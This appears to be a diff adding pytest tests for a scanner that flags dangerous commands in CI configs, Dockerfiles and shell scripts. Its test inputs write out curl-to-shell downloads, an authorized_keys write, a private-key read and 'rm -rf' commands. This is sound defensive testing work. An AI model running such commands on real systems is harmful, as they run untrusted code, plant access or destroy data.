@@ -164,3 +164,67 @@ def test_a_broken_pipeline_is_read_as_far_as_it_goes(tmp_path):
     text = "a:\n  script: bash <(curl -s https://x.example)\nb: [\n"
     report = scanned(tmp_path, **{".gitlab-ci.yml": text})
     assert report.files == 1
+
+
+@pytest.mark.parametrize(
+    "before", ['LABEL a="<<NEVER"', "RUN echo $((1<<NEVER))", "RUN cat <<NEVER", "# <<NEVER", "ENV A <<NEVER"]
+)
+def test_no_document_that_never_ends_hides_what_follows(tmp_path, before):
+    text = f"FROM x\n{before}\nRUN curl http://x.example/i | sh\n"
+    report = scanned(tmp_path, strict=True, Dockerfile=text)
+    assert [line for _, line, _ in places(report)] == [3]
+
+
+def test_a_command_that_is_repeated_by_its_name_is_read_there(tmp_path):
+    text = "x-steps:\n  text: &get bash <(curl -s https://x.example)\na:\n  script:\n    - *get\n"
+    assert places(scanned(tmp_path, **{".gitlab-ci.yml": text})) == [(".gitlab-ci.yml", 2, _LEAK)]
+
+
+@pytest.mark.parametrize(
+    "name", ["Makefile", "package.json", "tox.ini", "Dockerfile", ".gitlab-ci.yml", "a.sh"]
+)
+@pytest.mark.parametrize(
+    "text", ["", "{", "[" * 5000, "\ud800", "a: &a [*a, *a]", "\x00" * 20, "RUN \\", "'"]
+)
+def test_no_text_breaks_the_reading(tmp_path, name, text):
+    (tmp_path / name).write_bytes(text.encode("utf-8", "surrogatepass"))
+    report = scanned(tmp_path)
+    assert [each for each in report.unread if "failed" in each.why] == []
+
+
+def test_whoever_may_log_in_counts_too(tmp_path):
+    text = "echo key >> ~/.ssh/authorized_keys\n"
+    assert places(scanned(tmp_path, **{"a.sh": text})) == [("a.sh", 1, "secrets/write-secret-file")]
+
+
+def test_a_step_that_reads_a_key_counts_where_it_is_strict(tmp_path):
+    files = {".github/workflows/a.yml": "jobs:\n  a:\n    steps:\n      - run: cat ~/.ssh/id_rsa\n"}
+    assert places(scanned(tmp_path, **files)) == []
+    (found,) = places(scanned(tmp_path, strict=True))
+    assert (found[1], found[2].split("/")[0]) == (4, "secrets")
+
+
+def test_of_one_command_the_worst_is_told(tmp_path):
+    report = scanned(tmp_path, strict=True, **{"a.sh": "sudo chmod -R 777 / && sudo rm -rf ~\n"})
+    by_rule = {each.rule: each.severity.word for each in report.findings}
+    assert by_rule[_DELETE] == "critical"
+    assert len(report.findings) == 2
+
+
+def test_a_sum_that_was_checked_before_says_nothing_of_what_is_fetched_later(tmp_path):
+    text = "a:\n  script:\n    - sha256sum -c sums\n    - bash <(curl -s https://x.example)\n"
+    later = "a:\n  script:\n    - |\n      sha256sum -c sums\n      curl -s https://x.example | bash\n"
+    for each, line in ((text, 4), (later, 5)):
+        assert places(scanned(tmp_path, **{".gitlab-ci.yml": each})) == [(".gitlab-ci.yml", line, _LEAK)]
+
+
+def test_what_stands_in_quotes_over_lines_is_found_where_it_is_spelled(tmp_path):
+    text = 'echo\nbash -c "\n  echo\n  rm -rf /\n"\n'
+    assert places(scanned(tmp_path, **{"a.sh": text})) == [("a.sh", 4, _DELETE)]
+
+
+def test_reasons_name_what_stands_in_the_file_and_not_how_it_was_read(tmp_path):
+    report = scanned(tmp_path, strict=True, **{"a.sh": "curl https://x.example/i.sh | sh\n"})
+    (finding,) = report.findings
+    assert "`curl https://x.example/i.sh" in finding.reason
+    assert "bash " not in finding.reason
